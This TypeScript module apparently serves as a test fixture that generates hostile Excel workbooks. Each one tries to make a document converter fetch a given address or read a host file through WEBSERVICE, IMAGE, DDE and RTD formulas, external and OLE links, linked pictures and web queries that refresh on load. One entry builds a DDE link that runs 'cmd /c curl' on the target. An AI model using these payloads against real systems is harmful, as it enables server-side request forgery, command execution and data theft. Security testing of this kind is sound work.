import { zip } from "../../../layers/libreoffice/zip.ts";
import { RELATIONS, relationships } from "./parts.ts";
import { type Beside, type Cell, type SheetParts, xlsx, xlsxFiles } from "./xlsx.ts";

const SHEET = "openxmlformats-officedocument.spreadsheetml";
const S = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${RELATIONS}"`;

const escaped = (formula: string) => formula.replace(/&/g, "&amp;").replace(/</g, "&lt;");

/** A workbook with a formula without a stored result. */
const computing = (formula: string, beside?: Beside): Buffer => {
  const cell: Cell = { xml: `<c r="B1"><f ca="1">${escaped(formula)}</f></c>` };
  return xlsx([["printed", cell]], {}, { workbook: '<calcPr fullCalcOnLoad="1"/>', ...beside });
};

const link = (target: string) => ({ id: "rId1", type: "externalLinkPath", target, isExternal: true });

/** A workbook with this external link. */
const linked = (content: string, target: string, formula: string): Buffer => {
  const part = "xl/externalLinks/externalLink1.xml";
  return computing(formula, {
    workbook: '<externalReferences><externalReference r:id="rId40"/></externalReferences><calcPr fullCalcOnLoad="1"/>',
    related: [{ id: "rId40", type: "externalLink", target: "externalLinks/externalLink1.xml" }],
    parts: {
      [part]: `<externalLink ${S}>${content}</externalLink>`,
      "xl/externalLinks/_rels/externalLink1.xml.rels": relationships([link(target)]),
    },
    types: { [part]: `${SHEET}.externalLink+xml` },
  });
};

const withSheet = (after: string, related: SheetParts["related"], beside: Beside = {}): Buffer =>
  zip(xlsxFiles([{ rows: [["printed"]], after, related: related ?? [] }], beside));

const drawing =
  '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
  `xmlns:r="${RELATIONS}"><xdr:oneCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/>` +
  '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>' +
  '<xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>';

/** Workbooks that try to fetch an address or to read a file of the host, by method. */
export const hostileExcel: Readonly<Record<string, (target: string) => Buffer>> = {
  "the function WEBSERVICE": (target) => computing(`_xlfn.WEBSERVICE("${target}")`),
  "the function IMAGE": (target) => computing(`_xlfn.IMAGE("${target}")`),
  "the function DDE": (target) => computing(`DDE("soffice","${target}","Sheet1.A1")`),
  "the function RTD": (target) => computing(`RTD("server","","${target}")`),
  "a formula of another workbook": (target) => computing(`'${target}'#$Sheet1.A1`),
  "a link to another workbook": (target) =>
    linked(
      '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>',
      target,
      "[1]Sheet1!A1",
    ),
  "an OLE link": (target) =>
    linked(
      '<oleLink r:id="rId1" progId="Excel.Sheet.12"><oleItems><oleItem name="A1" advise="1"/></oleItems></oleLink>',
      target,
      "[1]!A1",
    ),
  "a DDE link": (target) =>
    linked(
      `<ddeLink ddeService="cmd" ddeTopic="/c curl ${target}"><ddeItems><ddeItem name="A1" advise="1"/></ddeItems></ddeLink>`,
      target,
      "cmd|'/c curl'!A1",
    ),
  "a linked picture": (target) =>
    withSheet('<drawing r:id="rId1"/>', [{ id: "rId1", type: "drawing", target: "../drawings/drawing1.xml" }], {
      parts: {
        "xl/drawings/drawing1.xml": drawing,
        "xl/drawings/_rels/drawing1.xml.rels": relationships([{ id: "rId1", type: "image", target, isExternal: true }]),
      },
      types: { "xl/drawings/drawing1.xml": "openxmlformats-officedocument.drawing+xml" },
    }),
  "a background": (target) =>
    withSheet('<picture r:id="rId1"/>', [{ id: "rId1", type: "image", target, isExternal: true }]),
  "a query of the web": (target) =>
    withSheet("", [], {
      related: [{ id: "rId50", type: "connections", target: "connections.xml" }],
      parts: {
        "xl/connections.xml": `<connections ${S}><connection id="1" name="c" type="4" refreshedVersion="6" refreshOnLoad="1"><webPr url="${target}" htmlTables="1"/></connection></connections>`,
      },
      types: { "xl/connections.xml": `${SHEET}.connections+xml` },
    }),
};
